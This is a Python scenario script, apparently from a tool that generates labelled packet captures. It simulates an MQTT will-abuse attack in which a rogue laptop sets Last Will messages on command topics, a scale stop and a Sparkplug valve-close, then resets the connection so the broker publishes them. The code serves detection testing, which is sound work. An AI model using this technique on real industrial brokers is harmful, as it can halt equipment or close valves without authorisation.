"""A laptop in the office network lets the broker give a command for it: by a will, after it is long gone."""

from __future__ import annotations

import socket
import struct
from typing import cast

from pcaps.scenarios.rig.stage import Stage
from pcaps.scenarios.rig.telemetry import (
    DEVICE,
    EDGE,
    SCALE,
    SPARKPLUG,
    V5,
    Will,
    command_valve,
    make_client,
    make_scenario,
    run_client,
)


async def attack(stage: Stage) -> None:
    """Connect twice with a will on a command topic, and break the connection each time without a word."""
    await stage.until(40)
    wills = (
        Will(f"{SCALE}/cmd", b'{"cmd":"stop"}'),
        Will(f"{SPARKPLUG}/DCMD/{EDGE}/{DEVICE}", command_valve(opened=False)),
    )
    for will in wills:
        stage.mark()
        client = make_client("mqttx_0d77", version=V5, will=will)
        async with run_client(client):
            await stage.wait(10)
            _reset(cast("socket.socket | None", client.socket()))
            await stage.wait(5)
        await stage.wait(15)


def _reset(connection: socket.socket | None) -> None:
    """Make the connection end with a reset instead of DISCONNECT."""
    if connection is not None:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        connection.close()


SCENARIO = make_scenario("mqtt_will_abuse.pcap.gz", 47, 130, {"laptop": attack}, strangers=("laptop",))
